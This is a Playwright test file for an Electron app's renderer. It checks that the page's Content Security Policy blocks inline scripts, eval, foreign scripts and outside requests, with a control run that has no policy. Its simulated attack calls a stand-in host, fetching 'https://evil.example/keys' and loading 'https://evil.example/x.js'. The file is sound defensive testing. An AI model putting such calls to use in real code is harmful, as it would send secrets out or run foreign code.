import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { expect, type Page, test } from '@playwright/test';
import { serveRenderer } from '../app-protocol.ts';

// The built page and preload in a real browser, served by the handler behind app://. Only Electron's own two objects
// are stood in for: the browser has no such scheme, so the answers are given under an https name that goes nowhere.
const origin = 'https://omni.test';
const built = (path: string) => fileURLToPath(new URL(`../../out/${path}`, import.meta.url));
const handle = serveRenderer(built('renderer'));
const preload = readFileSync(built('preload/preload.cjs'), 'utf8');

const electronInPage = `{
  const listeners = {};
  const electron = {
    contextBridge: { exposeInMainWorld: (name, value) => Object.defineProperty(window, name, { value }) },
    ipcRenderer: {
      on: (channel, listener) => { listeners[channel] = listener; },
      send(channel) {
        const { port1, port2 } = new MessageChannel();
        window.sent = [...(window.sent ?? []), channel];
        window.heard = [];
        port1.onmessage = (event) => window.heard.push(event.data);
        listeners['omni-port']({ ports: [port2] });
      },
    },
  };
  ((require) => {
    ${preload}
  })(() => electron);
}`;

async function openPage(page: Page, options: { hasPolicy: boolean }): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('tellViolation', (what: string) => violations.push(what));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { tellViolation(what: string): void }).tellViolation(
        `${event.effectiveDirective} ${event.blockedURI}`,
      );
    });
  });
  await page.addInitScript(electronInPage);
  await page.route('**', (route) => route.fulfill({ status: 200, body: 'reached', contentType: 'text/plain' }));
  await page.route(`${origin}/**`, async (route) => {
    const request = route.request();
    const response = await handle({ url: request.url().replace(origin, 'app://omni'), method: request.method() });
    const headers = Object.fromEntries(response.headers);
    if (!options.hasPolicy) delete headers['content-security-policy'];
    await route.fulfill({ status: response.status, headers, body: Buffer.from(await response.arrayBuffer()) });
  });
  await page.goto(`${origin}/index.html`);
  return violations;
}

/** What a script that got into the page would try. @returns which of it worked */
function attack(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const worked: string[] = [];
    const run = document.createElement('script');
    run.textContent = 'window.inlineRan = true';
    document.head.append(run);
    if ('inlineRan' in window) worked.push('inline script');
    try {
      await fetch('https://evil.example/keys', { mode: 'no-cors' });
      worked.push('fetch');
    } catch {}
    // In a turn of its own: the debugger lets through what the test's own call runs at once.
    await new Promise((resolve) => setTimeout(resolve));
    try {
      new Function('return 1')();
      worked.push('eval');
    } catch {}
    const loads = (element: HTMLImageElement | HTMLScriptElement, src: string) =>
      new Promise<boolean>((resolve) => {
        element.onload = () => resolve(true);
        element.onerror = () => resolve(false);
        element.src = src;
        document.head.append(element);
      });
    if (await loads(document.createElement('script'), 'https://evil.example/x.js')) worked.push('foreign script');
    return worked;
  });
}

test('the built page runs under its policy without one violation, and finds the engine through the preload', async ({
  page,
}) => {
  const violations = await openPage(page, { hasPolicy: true });
  await expect
    .poll(() =>
      page.evaluate(() => (window as unknown as { heard?: { name?: string }[] }).heard?.map(({ name }) => name)),
    )
    .toContain('status.watch');
  expect(await page.evaluate(() => (window as unknown as { sent: string[] }).sent)).toEqual(['omni-port-wanted']);
  expect(await page.evaluate(() => (window as unknown as { omni: unknown }).omni)).toEqual({ isElectron: true });
  expect(violations).toEqual([]);
});

test('asks for a fresh port at every reload', async ({ page }) => {
  await openPage(page, { hasPolicy: true });
  for (let i = 0; i < 3; i += 1) {
    await page.reload();
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { heard?: unknown[] }).heard?.length ?? 0))
      .toBeGreaterThan(0);
    expect(await page.evaluate(() => (window as unknown as { sent: string[] }).sent)).toEqual(['omni-port-wanted']);
  }
});

test('the policy stops injected scripts and requests to other hosts', async ({ page }) => {
  const violations = await openPage(page, { hasPolicy: true });
  expect(await attack(page)).toEqual([]);
  await expect
    .poll(() => violations.map((text) => text.split(' ')[0]))
    .toEqual(expect.arrayContaining(['script-src-elem', 'script-src', 'connect-src']));
});

test('control: the same attack works on the same page without the policy', async ({ page }) => {
  await openPage(page, { hasPolicy: false });
  expect(await attack(page)).toEqual(['inline script', 'fetch', 'eval', 'foreign script']);
});
